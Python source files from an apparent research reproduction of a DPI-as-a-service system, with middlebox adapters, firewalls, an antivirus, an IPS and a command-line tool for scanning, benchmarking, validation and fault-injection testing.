    """Adapter for a read-only middlebox *off* the data path.

    In the read-only optimization (Section 4.2, option 3) the middlebox
    receives only result packets, sent directly to its host by the DPI
    service; anything else that reaches it (e.g. flooded frames) is
    forwarded untouched.
    """

    def __init__(self, middlebox: DPIServiceMiddlebox) -> None:
        if not middlebox.READ_ONLY:
            raise TypeError(
                f"{middlebox.name}: monitoring mode requires a read-only "
                "middlebox"
            )
        self.middlebox = middlebox
        self.results_consumed = 0

    def process(self, packet: Packet) -> list[Packet]:
        """Handle one received packet; return the packets to send on."""
        if packet.is_result_packet:
            self.results_consumed += 1
            self.middlebox.consume_results_only(packet)
            return []
        return [packet]


class MiddleboxChainFunction(NetworkFunction):
    """Adapter placing a :class:`DPIServiceMiddlebox` on a policy chain.

    Mirrors the paper's prototype middlebox application: data packets whose
    match mark (ECN) is set are buffered until the corresponding result
    packet arrives; unmarked packets are processed immediately with an empty
    match list.  Both the data packet (unless dropped) and the result packet
    are forwarded so that downstream middleboxes can reuse the results.
    """

    #: Default cap on buffered packets awaiting their counterpart.  A lost
    #: result packet must not wedge the buffer forever: beyond the cap the
    #: oldest pending data packet is processed with an empty match list
    #: (fail-open, like the paper's read-only-friendly default) and oldest
    #: orphan reports are discarded.
    DEFAULT_MAX_PENDING = 256

    def __init__(
        self,
        middlebox: DPIServiceMiddlebox,
        max_pending: int = DEFAULT_MAX_PENDING,
    ) -> None:
        if max_pending < 1:
            raise ValueError(f"max_pending must be positive: {max_pending}")
        self.middlebox = middlebox
        self.max_pending = max_pending
        self._pending_data: dict[int, Packet] = {}
        self._pending_reports: dict[int, Packet] = {}
        self.max_buffered = 0
        self.forced_releases = 0
        self.dropped_orphan_reports = 0
        # Graceful degradation (fault recovery): while ``degraded`` is set,
        # data packets are scanned by a private legacy engine instead of
        # waiting for service results.  The engine is compiled lazily on
        # first degradation and kept for later episodes.
        self.degraded = False
        self._fallback = None
        self.packets_rescanned = 0
        self.corrupt_reports = 0

    def degrade(self) -> list[Packet]:
        """Fall back to the legacy local DPI engine (service unreachable).

        Pending data packets whose result packet will never arrive are
        rescanned locally and returned so the caller can forward them —
        nothing buffered is silently lost.  Idempotent.
        """
        if self.degraded:
            return []
        if self._fallback is None:
            from repro.middleboxes.legacy import LegacyDPIMiddlebox

            self._fallback = LegacyDPIMiddlebox.from_middlebox(self.middlebox)
        self.degraded = True
        released: list[Packet] = []
        for data in list(self._pending_data.values()):
            if self._rescan(data) is not Action.DROP:
                released.append(data)
        self._pending_data.clear()
        self._pending_reports.clear()
        return released

    def restore(self) -> None:
        """Reattach to the DPI service after recovery.  Idempotent."""
        self.degraded = False

    def _rescan(self, packet: Packet) -> Action:
        """Scan one data packet with the legacy fallback engine."""
        from repro.net.flows import FiveTuple

        self.packets_rescanned += 1
        packet.clear_match_mark()
        return self._fallback.process_packet(
            packet, flow_key=FiveTuple.of(packet)
        )

    def process(self, packet: Packet) -> list[Packet]:
        """Handle one received packet; return the packets to send on."""
        if self.degraded:
            if packet.is_result_packet:
                # A straggler result from before the outage; the data packet
                # was already rescanned locally, so the report is stale.
                self.dropped_orphan_reports += 1
                return []
            verdict = self._rescan(packet)
            return [] if verdict is Action.DROP else [packet]
        if packet.is_result_packet:
            data = self._pending_data.pop(packet.describes_packet_id, None)
            if data is None:
                # Result arrived first: hold it for the data packet.
                self._pending_reports[packet.describes_packet_id] = packet
                self._track_buffering()
                return self._enforce_cap()
            return self._process_pair(data, packet)
        if not packet.is_marked_matched:
            verdict = self.middlebox.consume_unmarked(packet)
            return [] if verdict is Action.DROP else [packet]
        report_packet = self._pending_reports.pop(packet.packet_id, None)
        if report_packet is None:
            self._pending_data[packet.packet_id] = packet
            self._track_buffering()
            return self._enforce_cap()
        return self._process_pair(packet, report_packet)

    def _enforce_cap(self) -> list[Packet]:
        """Release/discard the oldest pending entries beyond the cap."""
        released: list[Packet] = []
        while len(self._pending_data) > self.max_pending:
            oldest_id = next(iter(self._pending_data))
            data = self._pending_data.pop(oldest_id)
            # Fail open: process with no matches rather than stall the flow.
            verdict = self.middlebox.consume_unmarked(data)
            self.forced_releases += 1
            if verdict is not Action.DROP:
                released.append(data)
        while len(self._pending_reports) > self.max_pending:
            oldest_id = next(iter(self._pending_reports))
            del self._pending_reports[oldest_id]
            self.dropped_orphan_reports += 1
        return released

    def _process_pair(self, data: Packet, report_packet: Packet) -> list[Packet]:
        try:
            report = MatchReport.decode(report_packet.payload)
        except ValueError:
            # Corrupted result packet: fail open on the data packet (treat
            # it as matchless) and drop the unusable report.  The match mark
            # is cleared so downstream middleboxes do not buffer for a
            # report that no longer exists.
            self.corrupt_reports += 1
            data.clear_match_mark()
            verdict = self.middlebox.consume_unmarked(data)
            return [] if verdict is Action.DROP else [data]
        verdict = self.middlebox.consume_report(data, report)
        if verdict is Action.DROP:
            # Drop the pair: forwarding the orphan result packet would leave
            # downstream middleboxes buffering for a data packet that will
            # never arrive.
            return []
        return [data, report_packet]

    def _track_buffering(self) -> None:
        buffered = len(self._pending_data) + len(self._pending_reports)
        self.max_buffered = max(self.max_buffered, buffered)
