"""Firewalls.

* :class:`L2L4Firewall` — the header-only firewall from the paper's policy
  chains (Figure 5's ``L2-L4 FW``).  It performs **no DPI** and therefore
  does not register with the DPI service; it filters on addresses, protocol
  and ports.
* :class:`L7Firewall` — an application-layer firewall (ModSecurity/L7-filter
  style) whose rules match payload patterns via the DPI service.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.middleboxes.base import Action, DPIServiceMiddlebox, MiddleboxStats
from repro.net.addresses import IPv4Address
from repro.net.host import NetworkFunction
from repro.net.packet import Packet


@dataclass(frozen=True)
class AclEntry:
    """One L3/L4 access-control entry; None fields are wildcards."""

    action: Action
    src_ip: IPv4Address | None = None
    dst_ip: IPv4Address | None = None
    protocol: int | None = None
    src_port: int | None = None
    dst_port: int | None = None

    def matches(self, packet: Packet) -> bool:
        """True if the packet satisfies every non-wildcard field."""
        if self.src_ip is not None and packet.ip.src != self.src_ip:
            return False
        if self.dst_ip is not None and packet.ip.dst != self.dst_ip:
            return False
        if self.protocol is not None and packet.ip.protocol != self.protocol:
            return False
        if self.src_port is not None and packet.l4.src_port != self.src_port:
            return False
        if self.dst_port is not None and packet.l4.dst_port != self.dst_port:
            return False
        return True


class L2L4Firewall:
    """First-match ACL firewall over packet headers; no DPI involved."""

    TYPE_NAME = "l2l4_fw"

    def __init__(self, default_action: Action = Action.FORWARD) -> None:
        self.entries: list[AclEntry] = []
        self.default_action = default_action
        self.stats = MiddleboxStats()

    def add_entry(self, entry: AclEntry) -> None:
        """Append an ACL entry (first match wins)."""
        self.entries.append(entry)

    def decide(self, packet: Packet) -> Action:
        """The verdict for one packet."""
        self.stats.packets_processed += 1
        for entry in self.entries:
            if entry.matches(packet):
                if entry.action is Action.DROP:
                    self.stats.packets_dropped += 1
                return entry.action
        if self.default_action is Action.DROP:
            self.stats.packets_dropped += 1
        return self.default_action


class L2L4FirewallFunction(NetworkFunction):
    """Adapter for a header firewall on a simulated chain."""

    def __init__(self, firewall: L2L4Firewall) -> None:
        self.firewall = firewall

    def process(self, packet: Packet) -> list[Packet]:
        """Handle one received packet; return the packets to send on."""
        if packet.is_result_packet:
            return [packet]
        verdict = self.firewall.decide(packet)
        return [] if verdict is Action.DROP else [packet]


class L7Firewall(DPIServiceMiddlebox):
    """Application-layer firewall: payload patterns decide the verdict."""

    TYPE_NAME = "l7_fw"
    READ_ONLY = False
    STATEFUL = False
    #: L7 firewalls typically decide on application headers near the start
    #: of the payload; the paper's stopping condition models exactly this.
    STOPPING_CONDITION = 2048

    def add_block_pattern(
        self, rule_id: int, literal: bytes, description: str = ""
    ) -> None:
        """A DROP rule for a payload literal."""
        self.add_literal_rule(
            rule_id, literal, action=Action.DROP, description=description
        )

    def add_block_regex(
        self, rule_id: int, regex: bytes, description: str = ""
    ) -> None:
        """A DROP rule for a payload regular expression."""
        self.add_regex_rule(
            rule_id, regex, action=Action.DROP, description=description
        )
