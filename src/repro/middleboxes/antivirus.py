"""AntiVirus middlebox (ClamAV-like).

Virus signatures are long byte strings scanned across packet boundaries —
an AV is the paper's archetype of a *stateful* DPI consumer with a very
large pattern set.  On a signature hit the AV quarantines the whole flow:
subsequent packets of that flow are dropped without further inspection.
"""

from __future__ import annotations

from repro.middleboxes.base import Action, DPIServiceMiddlebox
from repro.net.flows import FiveTuple
from repro.net.packet import Packet


class AntiVirus(DPIServiceMiddlebox):
    """Flow-quarantining anti-virus."""

    TYPE_NAME = "av"
    READ_ONLY = False
    STATEFUL = True

    def __init__(self, middlebox_id: int, name: str | None = None, **kwargs) -> None:
        super().__init__(middlebox_id, name=name, **kwargs)
        self.quarantined_flows: set = set()
        self.detections: list[tuple] = []  # (flow key, rule id)

    def add_signature(
        self, rule_id: int, signature: bytes, description: str = ""
    ) -> None:
        """Add one detection signature."""
        if len(signature) < 8:
            raise ValueError(
                "virus signatures shorter than 8 bytes are too noisy; "
                f"got {len(signature)} bytes"
            )
        self.add_literal_rule(
            rule_id, signature, action=Action.DROP, description=description
        )

    def is_quarantined(self, flow_key) -> bool:
        """True if the flow is currently quarantined."""
        return flow_key in self.quarantined_flows

    def release(self, flow_key) -> bool:
        """Lift a quarantine (e.g. after operator review)."""
        if flow_key in self.quarantined_flows:
            self.quarantined_flows.remove(flow_key)
            return True
        return False

    def consume_report(self, packet: Packet, report) -> Action:
        """Drop quarantined flows outright; otherwise evaluate the report."""
        flow_key = FiveTuple.of(packet).bidirectional_key()
        if flow_key in self.quarantined_flows:
            self.stats.packets_processed += 1
            self.stats.packets_dropped += 1
            return Action.DROP
        return super().consume_report(packet, report)

    def consume_unmarked(self, packet: Packet) -> Action:
        """Drop quarantined flows outright; otherwise process matchless."""
        flow_key = FiveTuple.of(packet).bidirectional_key()
        if flow_key in self.quarantined_flows:
            self.stats.packets_processed += 1
            self.stats.packets_dropped += 1
            return Action.DROP
        return super().consume_unmarked(packet)

    def on_rule_hits(self, packet: Packet, hits: list) -> None:
        """Hook called once per processed packet with its rule hits."""
        for hit in hits:
            if self.engine.action_of(hit.rule_id) is Action.DROP:
                flow_key = FiveTuple.of(packet).bidirectional_key()
                self.quarantined_flows.add(flow_key)
                self.detections.append((flow_key, hit.rule_id))
