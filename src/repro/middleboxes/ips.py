"""Intrusion Prevention System — the inline counterpart of the IDS.

Unlike the IDS, an IPS acts on packets (drops them), so it cannot run in
read-only mode: it needs the packet itself alongside the match results
(the paper's IDS-vs-IPS distinction in Section 4.1).
"""

from __future__ import annotations

from repro.middleboxes.base import Action, DPIServiceMiddlebox
from repro.net.packet import Packet


class IntrusionPreventionSystem(DPIServiceMiddlebox):
    """Inline blocker: DROP rules for known-bad patterns."""

    TYPE_NAME = "ips"
    READ_ONLY = False
    STATEFUL = True

    def __init__(self, middlebox_id: int, name: str | None = None, **kwargs) -> None:
        super().__init__(middlebox_id, name=name, **kwargs)
        self.blocked_packet_ids: list[int] = []

    def add_block_signature(
        self, rule_id: int, literal: bytes, description: str = ""
    ) -> None:
        """A DROP rule for a known-bad literal."""
        self.add_literal_rule(
            rule_id, literal, action=Action.DROP, description=description
        )

    def add_watch_signature(
        self, rule_id: int, literal: bytes, description: str = ""
    ) -> None:
        """Alert-only signature (an IPS also detects, not only blocks)."""
        self.add_literal_rule(
            rule_id, literal, action=Action.ALERT, description=description
        )

    def on_rule_hits(self, packet: Packet, hits: list) -> None:
        """Hook called once per processed packet with its rule hits."""
        if any(
            self.engine.action_of(hit.rule_id) is Action.DROP for hit in hits
        ):
            self.blocked_packet_ids.append(packet.packet_id)
