"""Command-line interface.

Workflows a downstream user needs without writing code::

    repro-dpi generate-patterns --style snort --count 1000 --out pats.txt
    repro-dpi generate-trace --packets 200 --patterns pats.txt --out t.rtrc
    repro-dpi scan --patterns pats.txt --trace t.rtrc --engine ac
    repro-dpi demo

Pattern files hold one pattern per line, base64-encoded; lines starting
with ``re:`` are regular expressions, ``#`` lines are comments.
"""

from __future__ import annotations

import argparse
import base64
import sys
import time
from pathlib import Path

from repro.core.aho_corasick import AhoCorasick
from repro.core.instance import INSTANCE_KERNEL_NAMES
from repro.core.kernels import KERNEL_NAMES
from repro.core.patterns import Pattern, PatternKind
from repro.core.workers import BACKEND_NAMES
from repro.core.wu_manber import WuManber
from repro.autoscale.policies import POLICY_NAMES as LOAD_POLICY_NAMES
from repro.load.profiles import RAMP_KINDS as LOAD_RAMP_KINDS
from repro.load.profiles import SCENARIOS as LOAD_SCENARIOS
from repro.workloads.patterns import generate_clamav_like, generate_snort_like
from repro.workloads.traces import load_trace, save_trace
from repro.workloads.traffic import TrafficGenerator


def write_pattern_file(path, literals, regexes=()) -> int:
    """Write a pattern file; returns the number of patterns written."""
    lines = ["# repro-dpi pattern file: base64 per line, re: prefix = regex"]
    for literal in literals:
        lines.append(base64.b64encode(literal).decode("ascii"))
    for regex in regexes:
        lines.append("re:" + base64.b64encode(regex).decode("ascii"))
    Path(path).write_text("\n".join(lines) + "\n")
    return len(literals) + len(regexes)


def read_pattern_file(path) -> list:
    """Read a pattern file into :class:`Pattern` objects."""
    patterns = []
    for line_number, raw_line in enumerate(Path(path).read_text().splitlines(), 1):
        line = raw_line.strip()
        if not line or line.startswith("#"):
            continue
        kind = PatternKind.LITERAL
        if line.startswith("re:"):
            kind = PatternKind.REGEX
            line = line[3:]
        try:
            data = base64.b64decode(line, validate=True)
        except Exception:
            raise ValueError(
                f"{path}:{line_number}: not valid base64: {line[:40]!r}"
            ) from None
        patterns.append(Pattern(pattern_id=len(patterns), data=data, kind=kind))
    return patterns


def _cmd_generate_patterns(args) -> int:
    generators = {"snort": generate_snort_like, "clamav": generate_clamav_like}
    literals = generators[args.style](count=args.count, seed=args.seed)
    written = write_pattern_file(args.out, literals)
    print(f"wrote {written} {args.style}-like patterns to {args.out}")
    return 0


def _cmd_generate_trace(args) -> int:
    patterns = None
    if args.patterns:
        patterns = [p.data for p in read_pattern_file(args.patterns)]
    generator = TrafficGenerator(seed=args.seed, style=args.style)
    trace = generator.trace(
        args.packets,
        patterns=patterns,
        match_rate=args.match_rate,
        num_flows=args.flows,
    )
    save_trace(trace, args.out)
    print(
        f"wrote {len(trace)} packets ({trace.total_bytes} bytes) to {args.out}"
    )
    return 0


def _cmd_scan(args) -> int:
    patterns = read_pattern_file(args.patterns)
    literals = [p.data for p in patterns if p.kind is PatternKind.LITERAL]
    if not literals:
        print("pattern file holds no literal patterns", file=sys.stderr)
        return 2
    trace = load_trace(args.trace)
    if args.engine == "ac":
        engine = AhoCorasick(literals, layout=args.layout)
    elif args.engine == "combined":
        pattern_sets = {0: [Pattern(i, data) for i, data in enumerate(literals)]}
        if args.kernel == "sharded":
            from repro.core.sharding import ShardedAutomaton

            if args.shards < 1:
                print(
                    "scan: --kernel sharded needs --shards >= 1",
                    file=sys.stderr,
                )
                return 2
            automaton = ShardedAutomaton(
                pattern_sets,
                args.shards,
                layout=args.layout,
                shard_kernel=args.shard_kernel,
                backend=args.shard_backend,
                scan_cache_size=args.cache_size,
                workers=args.shard_workers or None,
                pipelined=args.pipelined,
            )
        else:
            from repro.core.combined import CombinedAutomaton

            automaton = CombinedAutomaton(
                pattern_sets,
                layout=args.layout,
                kernel=args.kernel,
                scan_cache_size=args.cache_size,
            )

        def count_combined(payload):
            return sum(
                len(automaton.match_entry(state))
                for state, _ in automaton.scan(payload).raw_matches
            )

        engine = automaton
        engine.count_matches = count_combined
    else:
        engine = WuManber(literals)
    started = time.perf_counter()
    total_matches = 0
    matched_packets = 0
    if args.engine == "combined" and args.kernel == "sharded" and args.pipelined:
        # The pipelined arena path is batched by construction: scan the
        # whole trace in one double-buffered pass.
        for result in engine.scan_batch(list(trace.payloads), pipelined=True):
            found = sum(
                len(engine.match_entry(state))
                for state, _ in result.raw_matches
            )
            total_matches += found
            if found:
                matched_packets += 1
    else:
        for payload in trace.payloads:
            found = engine.count_matches(payload)
            total_matches += found
            if found:
                matched_packets += 1
    elapsed = time.perf_counter() - started
    if hasattr(engine, "shutdown"):
        engine.shutdown()
    mbps = trace.total_bytes * 8 / elapsed / 1e6 if elapsed > 0 else float("inf")
    detail = ""
    if args.engine == "ac":
        detail = f" ({args.layout})"
    elif args.engine == "combined":
        detail = f" ({args.layout}, kernel={args.kernel})"
        if args.kernel == "sharded":
            pipeline_note = ", pipelined" if args.pipelined else ""
            detail = (
                f" ({args.layout}, kernel=sharded x{args.shards}"
                f" {args.shard_kernel}/{args.shard_backend}{pipeline_note})"
            )
    print(f"engine: {args.engine}" + detail)
    print(f"packets: {len(trace)}  bytes: {trace.total_bytes}")
    print(f"matched packets: {matched_packets}  total matches: {total_matches}")
    print(f"throughput: {mbps:.2f} Mbps")
    return 0


def _cmd_bench_kernels(args) -> int:
    if args.sharding:
        from repro.bench.sharding import (
            format_sharding_results,
            run_sharding_benchmark,
            write_results,
        )

        results = run_sharding_benchmark(
            pattern_count=args.pattern_count,
            packets=args.packets,
            rounds=args.rounds,
            shards=args.shards or 4,
        )
        print(format_sharding_results(results))
        if args.out:
            write_results(results, args.out)
            print(f"wrote {args.out}")
        return 0

    from repro.bench.kernels import (
        format_results,
        run_kernel_benchmark,
        write_results,
    )

    results = run_kernel_benchmark(
        pattern_count=args.pattern_count,
        packets=args.packets,
        rounds=args.rounds,
        cache_size=args.cache_size,
    )
    print(format_results(results))
    if args.out:
        write_results(results, args.out)
        print(f"wrote {args.out}")
    return 0


def _cmd_report(args) -> int:
    from repro.telemetry.export import export_jsonl, prometheus_text
    from repro.telemetry.report import render_report
    from repro.telemetry.scenario import run_figure5_scenario

    result = run_figure5_scenario(
        packets=args.packets,
        seed=args.seed,
        kernel=args.kernel,
        scan_cache_size=args.cache_size,
        shards=args.shards,
        shard_backend=args.shard_backend,
        shard_kernel=args.shard_kernel,
        shard_workers=args.shard_workers,
        shard_pipelined=args.pipelined,
    )
    # Export before printing: a closed stdout pipe (`report | head`) must
    # not cost the caller their --jsonl / --prom files.
    exported = []
    if args.jsonl:
        count = export_jsonl(result.hub, args.jsonl)
        exported.append(f"wrote {count} events to {args.jsonl}")
    if args.prom:
        Path(args.prom).write_text(prometheus_text(result.hub.registry))
        exported.append(f"wrote {args.prom}")
    print(render_report(result.hub), end="")
    for line in exported:
        print(line)
    return 0


def _cmd_lint(args) -> int:
    from repro.analysis import (
        LintEngine,
        default_rules,
        render_json,
        render_text,
    )
    from repro.analysis.baseline import (
        BaselineError,
        apply_baseline,
        load_baseline,
        write_baseline,
    )

    paths = list(args.paths)
    if args.self_check:
        import repro

        paths.append(str(Path(repro.__file__).parent))
    if not paths:
        print("lint: no paths given (pass paths or --self)", file=sys.stderr)
        return 2
    rules = default_rules()
    if args.select:
        prefixes = tuple(
            prefix.strip()
            for prefix in args.select.split(",")
            if prefix.strip()
        )
        rules = [rule for rule in rules if rule.code.startswith(prefixes)]
        if not rules:
            print(
                f"lint: --select {args.select!r} matches no registered rule",
                file=sys.stderr,
            )
            return 2
    findings = LintEngine(rules).lint_paths(paths)
    if args.write_baseline:
        if not args.baseline:
            print(
                "lint: --write-baseline needs --baseline FILE",
                file=sys.stderr,
            )
            return 2
        count = write_baseline(findings, args.baseline)
        print(f"wrote {count} baseline entries to {args.baseline}")
        return 0
    if args.baseline:
        try:
            entries = load_baseline(args.baseline)
        except (OSError, BaselineError) as error:
            print(f"lint: {error}", file=sys.stderr)
            return 2
        findings, stale = apply_baseline(findings, entries)
        for path, code, message in stale:
            print(
                f"lint: stale baseline entry (fixed debt — refresh with "
                f"--write-baseline): {path}: {code} {message}",
                file=sys.stderr,
            )
    render = render_json if args.format == "json" else render_text
    sys.stdout.write(render(findings))
    return 1 if findings else 0


#: ``repro-dpi check --inject`` faults: name -> (description, mutator).
#: Each mutator breaks the built figure-5 scenario in one specific way so
#: the validators (and the e2e tests) can observe a realistic failure.
def _inject_ghost_chain(result) -> None:
    """A chain whose middlebox type has no registered instance (CHAIN001)."""
    from repro.net.steering import PolicyChain

    result.tsa.chains["ghost"] = PolicyChain(
        "ghost", ("ghost-type",), chain_id=900
    )


def _inject_overlap_chain(result) -> None:
    """A chain whose tag block collides with chain1's (CHAIN002)."""
    from repro.net.steering import PolicyChain, TrafficAssignment

    result.tsa.chains["evil"] = PolicyChain("evil", ("ids2",), chain_id=101)
    result.tsa.assignments.append(
        TrafficAssignment("src2", "dst2", "evil")
    )


def _inject_orphan_rule(result) -> None:
    """A rule matching a VLAN tag no chain allocates (STEER001)."""
    from repro.net.openflow import FlowAction, FlowMatch

    result.tsa.controller.install(
        "s1", FlowMatch(in_port=1, vlan_vid=999),
        [FlowAction.output(2)], priority=200,
    )


def _inject_duplicate_rule(result) -> None:
    """The same (match, priority) installed twice on one switch (FLOW002)."""
    from repro.net.openflow import FlowAction, FlowMatch

    for _ in range(2):
        result.tsa.controller.install(
            "s2", FlowMatch(in_port=7, vlan_vid=131),
            [FlowAction.output(8)], priority=200,
        )


def _inject_dangling_assignment(result) -> None:
    """A traffic assignment naming a host outside the topology (CHAIN003)."""
    from repro.net.steering import TrafficAssignment

    result.tsa.assignments.append(
        TrafficAssignment("no-such-host", "dst1", "chain1")
    )


CHECK_FAULTS = {
    "ghost-chain": _inject_ghost_chain,
    "overlap-chain": _inject_overlap_chain,
    "orphan-rule": _inject_orphan_rule,
    "duplicate-rule": _inject_duplicate_rule,
    "dangling-assignment": _inject_dangling_assignment,
}


def _cmd_check(args) -> int:
    from repro.analysis import (
        errors_in,
        format_issues,
        render_issues_json,
        validate_scenario,
    )
    from repro.telemetry.scenario import run_figure5_scenario

    # packets=0 builds and realizes the whole system without traffic —
    # validation is purely static, so no packet ever needs to flow.
    result = run_figure5_scenario(packets=0, telemetry=False)
    for fault in args.inject or []:
        CHECK_FAULTS[fault](result)
    issues = validate_scenario(
        topology=result.topology,
        tsa=result.tsa,
        controller=result.dpi_controller,
    )
    if args.load_spec:
        import json

        from repro.analysis.validators import validate_load_spec
        from repro.load.profiles import RAMP_KINDS, profile_vocabulary

        try:
            with open(args.load_spec) as handle:
                document = json.load(handle)
        except (OSError, ValueError) as error:
            print(
                f"check: cannot load spec {args.load_spec}: {error}",
                file=sys.stderr,
            )
            return 2
        issues = issues + validate_load_spec(
            document,
            profile_names=profile_vocabulary(),
            ramp_kinds=RAMP_KINDS,
        )
    if args.format == "json":
        sys.stdout.write(render_issues_json(issues))
    else:
        sys.stdout.write(format_issues(issues))
    return 1 if errors_in(issues) else 0


def _cmd_load(args) -> int:
    import json

    from repro.analysis.validators import ValidationError, format_issues
    from repro.load.driver import run_load_scenario
    from repro.load.profiles import LoadSpec, RampSchedule

    if args.spec:
        try:
            spec = LoadSpec.load(args.spec)
        except (OSError, ValueError, TypeError) as error:
            print(f"load: cannot load spec {args.spec}: {error}", file=sys.stderr)
            return 2
    else:
        spec = LoadSpec()
    overrides = {
        "profile_mix": args.profile,
        "flows": args.flows,
        "epochs": args.epochs,
        "epoch_seconds": args.epoch_seconds,
        "seed": args.seed,
        "slo_ms": args.slo_ms,
        "rate_mbps": args.rate_mbps,
        "initial_instances": args.instances,
        "max_packets_per_epoch": args.max_packets,
    }
    overrides = {key: value for key, value in overrides.items() if value is not None}
    if args.ramp is not None:
        overrides["ramp"] = RampSchedule(kind=args.ramp)
    spec = spec.with_overrides(**overrides)

    plan = None
    if args.plan:
        from repro.faults import FaultPlan

        try:
            plan = FaultPlan.load(args.plan)
        except (OSError, ValueError) as error:
            print(f"load: cannot load plan {args.plan}: {error}", file=sys.stderr)
            return 2

    try:
        result = run_load_scenario(
            spec,
            autoscale=args.autoscale,
            policy=args.policy,
            max_instances=args.max_instances,
            plan=plan,
            instance_kwargs={"kernel": args.kernel},
            validate=not args.no_validate,
        )
    except ValidationError as error:
        print(format_issues(error.issues), file=sys.stderr)
        return 2

    summary = result.summary()
    if args.out:
        with open(args.out, "w") as handle:
            json.dump(summary, handle, indent=2, sort_keys=True)
            handle.write("\n")
    if args.format == "json":
        print(json.dumps(summary, indent=2, sort_keys=True))
        return 0
    print(
        f"load scenario: {args.scenario}  profile: {spec.profile_mix}  "
        f"flows: {spec.flows}  epochs: {spec.epochs}  "
        f"autoscale: {'on' if args.autoscale else 'off'}"
    )
    print(
        f"{'epoch':>5} {'flows':>8} {'packets':>8} {'p99 ms':>9} "
        f"{'viol':>6} {'inst':>5}  actions"
    )
    for report in result.epochs:
        actions = ", ".join(report.actions)
        print(
            f"{report.epoch:>5} {report.concurrent_flows:>8} "
            f"{report.offered_packets:>8} "
            f"{report.p99_latency_seconds * 1e3:>9.2f} "
            f"{report.slo_violations:>6} {report.alive_instances:>5}  {actions}"
        )
    totals = summary["totals"]
    print(
        f"totals: {totals['packets']} packets, {totals['matches']} matches, "
        f"{totals['slo_violations']} SLO violations, "
        f"{totals['suppressed']} suppressed"
    )
    print(
        f"peak flows within SLO: {summary['peak_flows_within_slo']}  "
        f"throughput: {summary['throughput_mbps']} Mbps  "
        f"worst epoch p99: {summary['overall_p99_ms']} ms"
    )
    print(f"digest: {result.digest}")
    return 0


def _cmd_bench_e2e(args) -> int:
    from repro.bench.e2e import (
        format_e2e_results,
        run_e2e_benchmark,
        validate_e2e_schema,
        write_results,
    )

    flow_steps = tuple(int(step) for step in args.flow_steps.split(","))
    results = run_e2e_benchmark(
        flow_steps,
        epochs=args.epochs,
        seed=args.seed,
        profile=args.profile,
        slo_ms=args.slo_ms,
        rate_mbps=args.rate_mbps,
        max_instances=args.max_instances,
    )
    problems = validate_e2e_schema(results)
    if problems:
        for problem in problems:
            print(f"bench-e2e: schema: {problem}", file=sys.stderr)
        return 1
    print(format_e2e_results(results))
    if args.out:
        write_results(results, args.out)
        print(f"wrote {args.out}")
    return 0


def _cmd_anomaly(args) -> int:
    import json

    from repro.anomaly import AnomalyClassifier, verdict_digest
    from repro.load.driver import LoadDriver
    from repro.load.profiles import LoadSpec

    base = {"flows": args.flows, "epochs": args.epochs, "seed": args.seed}
    calibration = LoadDriver(
        LoadSpec(profile_mix=args.calibration_profile, **base), anomaly=True
    )
    calibration.run()
    classifier = AnomalyClassifier(
        threshold=args.threshold, min_packets=args.min_packets, seed=args.seed
    )
    fitted = classifier.fit(calibration.anomaly.features_map())

    driver = LoadDriver(
        LoadSpec(profile_mix=args.profile, **base),
        anomaly=True,
        anomaly_classifier=classifier,
        autoscale=args.autoscale,
        max_instances=args.max_instances,
    )
    driver.run()
    verdicts = driver.anomaly.verdicts()
    flagged = [verdict for verdict in verdicts if verdict.anomalous]
    ranked = sorted(flagged, key=lambda v: (-v.score, repr(v.flow_key)))
    payload = {
        "profile": args.profile,
        "calibration_profile": args.calibration_profile,
        "flows": args.flows,
        "epochs": args.epochs,
        "seed": args.seed,
        "threshold": args.threshold,
        "calibration_flows": fitted,
        "scored_flows": len(verdicts),
        "flagged_flows": len(flagged),
        "flagged": [verdict.to_dict() for verdict in ranked[: args.top]],
        "verdict_digest": verdict_digest(verdicts),
        "baseline_digest": classifier.baseline_digest(),
    }
    if driver.autoscaler is not None:
        payload["isolation"] = {
            "pinned_flows": {
                repr(flow): instance
                for flow, instance in sorted(
                    driver.autoscaler.pins.items(), key=lambda p: repr(p[0])
                )
            },
            "instances": len(driver.controller.instances),
        }
    if args.out:
        with open(args.out, "w") as handle:
            json.dump(payload, handle, indent=2, sort_keys=True)
            handle.write("\n")
    if args.format == "json":
        print(json.dumps(payload, indent=2, sort_keys=True))
        return 0
    print(
        f"anomaly: classified {payload['scored_flows']} flows of "
        f"{args.profile} (calibrated on {fitted} "
        f"{args.calibration_profile} flows, threshold {args.threshold})"
    )
    print(
        f"flagged {payload['flagged_flows']} flows; "
        f"verdict digest {payload['verdict_digest'][:16]}..."
    )
    for verdict in ranked[: args.top]:
        print(
            f"  flow {verdict.flow_key!r} chain {verdict.chain_id} "
            f"score {verdict.score:.2f} ({verdict.top_feature}, "
            f"{verdict.packets} packets)"
        )
    if "isolation" in payload:
        pins = payload["isolation"]["pinned_flows"]
        print(
            f"isolation: {len(pins)} flows pinned to dedicated instances, "
            f"{payload['isolation']['instances']} instances total"
        )
    return 0


def _cmd_bench_anomaly(args) -> int:
    from repro.bench.anomaly import (
        format_anomaly_results,
        run_anomaly_benchmark,
        validate_anomaly_schema,
        write_results,
    )

    results = run_anomaly_benchmark(
        flows=args.flows,
        epochs=args.epochs,
        seed=args.seed,
        threshold=args.threshold,
        min_packets=args.min_packets,
        mix=args.profile,
        calibration_profile=args.calibration_profile,
        overhead_packets=args.packets,
        rounds=args.rounds,
    )
    problems = validate_anomaly_schema(results)
    if problems:
        for problem in problems:
            print(f"bench-anomaly: schema: {problem}", file=sys.stderr)
        return 1
    print(format_anomaly_results(results))
    if args.out:
        write_results(results, args.out)
        print(f"wrote {args.out}")
    return 0


def _cmd_chaos(args) -> int:
    from repro.faults import FaultPlan, HeartbeatConfig, run_chaos_scenario

    try:
        plan = FaultPlan.load(args.plan)
    except (OSError, ValueError) as error:
        print(f"chaos: cannot load plan {args.plan}: {error}", file=sys.stderr)
        return 2
    heartbeat = HeartbeatConfig(failover_budget=args.failover_budget)
    result = run_chaos_scenario(
        plan,
        scenario=args.scenario,
        packets=args.packets,
        kernel=args.kernel,
        shards=args.shards,
        shard_backend=args.shard_backend,
        shard_kernel=args.shard_kernel,
        shard_workers=args.shard_workers,
        shard_pipelined=args.pipelined,
        heartbeat=heartbeat,
        allow_spare=not args.no_spare,
    )
    summary = result.summary()
    if args.format == "json":
        import json

        print(json.dumps(summary, indent=2, sort_keys=True))
    else:
        print(f"scenario: {summary['scenario']}  plan: {args.plan}")
        print(
            f"packets: {summary['packets_sent']} sent, "
            f"{summary['packets_received']} received, "
            f"{summary['policy_drops']} dropped by policy, "
            f"{summary['packets_lost']} lost to faults"
        )
